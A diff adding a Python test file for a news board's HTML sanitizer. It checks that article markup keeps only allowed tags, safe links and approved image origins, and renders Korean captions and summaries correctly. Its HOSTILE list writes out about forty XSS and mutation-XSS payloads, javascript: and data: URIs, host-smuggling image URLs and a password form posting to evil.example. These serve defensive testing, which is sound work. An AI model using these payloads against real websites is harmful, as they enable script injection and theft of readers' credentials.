@@ -1,0 +1,238 @@
+"""What an article's HTML may hold, and what becomes of the rest."""
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from board.articles.markup import PICTURE, clean, figure, paragraphs, plain
+
+OURS = {"https://images.harbour.example"}
+ALLOWED = {
+    "p": set(), "h2": set(), "h3": set(), "h4": set(), "blockquote": set(), "ul": set(),
+    "ol": set(), "li": set(), "figure": set(), "figcaption": set(), "strong": set(), "em": set(),
+    "b": set(), "i": set(), "u": set(), "s": set(), "sub": set(), "sup": set(), "br": set(),
+    "hr": set(), "table": set(), "caption": set(), "thead": set(), "tbody": set(), "tr": set(),
+    "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan", "scope"},
+    "a": {"href", "rel"}, "img": {"src", "alt", "width", "height"},
+}  # fmt: skip
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<style>*{display:none}</style>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java&#10;script:alert(1)">x</a>',
+    '<a href=" &#1; javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="/\\evil.example">x</a>',
+    '<a href="/&#9;/evil.example">x</a>',
+    '<a href="https:evil.example">x</a>',
+    '<a href="http://[">x</a>',
+    '<img src="//evil.example/a.png">',
+    '<img src="https://images.harbour.example@evil.example/a.png">',
+    '<img src="https://images.harbour.example.evil.example/a.png">',
+    '<img src="https://images.harbour.example\\@evil.example/a.png">',
+    '<img src="/static/../account">',
+    '<img srcset="https://evil.example/a.png 2x" src="/static/a.png">',
+    '<picture><source srcset="https://evil.example/a.png"></picture>',
+    '<p style="background:url(https://evil.example/a.png)" class="comments" id="comments">x</p>',
+    '<table background="https://evil.example/a.png"><tr><td>1</table>',
+    '<svg><use href="https://evil.example/a.svg#x"/></svg>',
+    "<svg onload=alert(1)>",
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
+    "<a title=\"</style><img src onerror='1'>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<form action=https://evil.example><input name=password><button>go</button></form>",
+    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
+    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
+    '<link rel=stylesheet href="https://evil.example/a.css">',
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><title><img src=x onerror=alert(1)></title>",
+    "<xmp><p title='</xmp><script>1</script>'></xmp><plaintext><b>",
+    "<!--><script>alert(1)</script>--><![CDATA[<b>]]><?php ?>",
+    "<p><object><p>nested</object></p>",
+    "<a href=/1><table><a href=/2>x",
+    "<b><p><i></b><div><h1></i>x",
+    "<ul><p><li><table><tr><blockquote><td>x",
+    "<p>\u0338a</p>&#x202e;&#0;\u200b\u2028",
+    '<td colspan="1e9" rowspan=2>x<img width="100%" src="/static/a.png">',
+    "e\u0301 &amp;lt;b&amp;gt; &lt;b&gt; R&D 1 < 2\r\n\r\n\tx",
+]  # fmt: skip
+
+BITS = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(), st.text(alphabet="<>/ab p\"'=&;\n")))
+
+
+class Tags(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def faults(html: str) -> list[str]:
+    """Everything in this HTML that must not reach a reader."""
+    found = []
+    for tag, attributes in Tags(html).found:
+        if tag not in ALLOWED or set(attributes) - ALLOWED[tag]:
+            found.append(f"{tag} {sorted(attributes)}")
+        if tag == "a" and not (attributes.get("href") or "/").startswith(
+            ("http://", "https://", "mailto:", "/")
+        ):
+            found.append(f"link {attributes['href']}")
+        if tag == "img":
+            parts = urlsplit(attributes.get("src") or "")
+            origin = f"{parts.scheme}://{parts.netloc}"
+            if origin not in OURS and not (origin == "://" and parts.path.startswith("/static/")):
+                found.append(f"picture {attributes.get('src')}")
+    return found
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_hostile_html_is_harmless(html: str) -> None:
+    cleaned = clean(html, image_origins=OURS)
+
+    assert faults(cleaned) == []
+    assert "alert(1)" not in "".join(str(tag) for tag in Tags(cleaned).found)
+
+
+def test_the_check_for_faults_finds_them() -> None:
+    assert [html for html in HOSTILE[2:6] if not faults(html)] == []
+
+
+@given(BITS)
+@example(HOSTILE)
+def test_cleaning_again_changes_nothing(bits: list[str]) -> None:
+    once = clean("".join(bits), image_origins=OURS)
+
+    assert clean(once, image_origins=OURS) == once
+    assert faults(once) == []
+
+
+@given(BITS)
+def test_relative_addresses_are_settled_by_the_first_cleaning(bits: list[str]) -> None:
+    base = "https://images.harbour.example/articles/1"
+
+    once = clean("".join(bits), image_origins=OURS, base=base)
+
+    assert clean(once, image_origins=OURS, base=base) == once
+    assert faults(once) == []
+
+
+def test_ordinary_article_html_stays_as_it_is() -> None:
+    html = (
+        "<h2>첫 배</h2><p>물때가 <strong>바뀌었다</strong>.<br><br>다음 줄</p>"
+        '<figure><img src="/static/sample/quay.svg" alt="부두" width="640" height="360">'
+        "<figcaption>▲ 부두 ⓒ 푸른항구</figcaption></figure>"
+        "<blockquote><p>“기다렸다”</p></blockquote><ul><li>하나</li></ul>"
+        '<table><caption>표</caption><thead><tr><th scope="col">가</th></tr></thead>'
+        '<tbody><tr><td colspan="2">나</td></tr></tbody></table>'
+        '<p><a href="https://harbour.example/2" rel="noopener">이어 읽기</a></p>'
+    )
+
+    assert clean(html, image_origins=OURS) == html
+
+
+def test_text_without_a_tag_becomes_paragraphs() -> None:
+    text = "첫 문단\n둘째 줄\n\n둘째 문단 1 < 2 & 3"
+
+    assert clean(text, image_origins=()) == (
+        "<p>첫 문단<br>둘째 줄</p>\n<p>둘째 문단 1 &lt; 2 &amp; 3</p>"
+    )
+
+
+def test_boxes_of_editing_systems_become_paragraphs() -> None:
+    html = '<div class="view"><div>하나</div><div><span style="color:red">둘</span></div></div>'
+
+    assert clean(html, image_origins=()) == "<p>하나</p><p>둘</p>"
+
+
+def test_the_page_keeps_its_only_first_heading() -> None:
+    assert clean("<h1>가</h1><h5>나</h5>", image_origins=()) == "<h2>가</h2><h4>나</h4>"
+
+
+def test_a_picture_of_a_third_party_becomes_a_link_and_keeps_its_caption() -> None:
+    html = figure(src="https://cdn.example/1.jpg", alt="등대", caption="등대", credit="한바다")
+
+    assert clean(html, image_origins=OURS) == (
+        '<figure><a href="https://cdn.example/1.jpg" rel="noopener">등대</a>'
+        "<figcaption>▲ 등대 ⓒ 한바다</figcaption></figure>"
+    )
+
+
+def test_a_picture_without_description_is_called_a_picture() -> None:
+    cleaned = clean('<img src="//cdn.example/1.jpg">', image_origins=OURS)
+
+    assert cleaned == f'<a href="https://cdn.example/1.jpg" rel="noopener">{PICTURE}</a>'
+
+
+def test_a_picture_inside_a_link_becomes_the_words_of_that_link() -> None:
+    html = (
+        '<a href="https://harbour.example/1"><img src="https://cdn.example/1.jpg" alt="등대"></a>'
+    )
+
+    assert clean(html, image_origins=OURS) == (
+        '<a href="https://harbour.example/1" rel="noopener">등대</a>'
+    )
+
+
+def test_pictures_that_count_readers_are_dropped() -> None:
+    html = '<p>끝.<img src="https://count.example/?n=1" width="1" height="1"></p>'
+
+    assert clean(html, image_origins={"https://count.example"}) == "<p>끝.</p>"
+
+
+def test_relative_addresses_are_seen_from_the_article() -> None:
+    html = '<a href="../2?x=1&y=2">둘</a><img src="/p/1.jpg" alt="">'
+
+    cleaned = clean(html, image_origins=OURS, base="https://images.harbour.example/a/1")
+
+    assert cleaned == (
+        '<a href="https://images.harbour.example/2?x=1&amp;y=2" rel="noopener">둘</a>'
+        '<img src="https://images.harbour.example/p/1.jpg" alt="">'
+    )
+
+
+def test_decomposed_hangul_and_invisible_marks_are_mended_behind_entities_too() -> None:
+    assert clean("<p>&#x1112;&#x1161;&#x11ab;&#x202e;글</p>", image_origins=()) == "<p>한글</p>"
+
+
+def test_absurd_nesting_takes_no_time_and_keeps_the_text() -> None:
+    assert clean("<div><ul>" * 50_000 + "글", image_origins=()) == "<p>글</p>"
+
+
+def test_a_caption_is_written_as_newspapers_write_it() -> None:
+    assert figure(src="/static/a.png", alt='"a"', caption="▲부두 <봄>", credit="ⓒ 한바다") == (
+        '<figure><img src="/static/a.png" alt="&quot;a&quot;">'
+        "<figcaption>▲ 부두 &lt;봄&gt; ⓒ 한바다</figcaption></figure>"
+    )
+
+
+def test_a_figure_without_words_has_no_caption() -> None:
+    assert figure(src="/static/a.png") == '<figure><img src="/static/a.png" alt=""></figure>'
+
+
+def test_empty_text_is_no_paragraph() -> None:
+    assert paragraphs(" \n\n ") == ""
+
+
+def test_a_summary_is_the_text_without_captions_cut_between_words() -> None:
+    html = (
+        figure(src="/static/a.png", caption="부두")
+        + "<p>제<b>목</b>이 &amp; 둘</p><p>셋</p><script>x</script>"
+        + "<p>낱말</p>" * 100
+    )
+
+    summary = plain(html, limit=20)
+
+    assert summary == "제목이 & 둘 셋 낱말 낱말 낱말…"
+    assert plain("<p>짧다</p>") == "짧다"
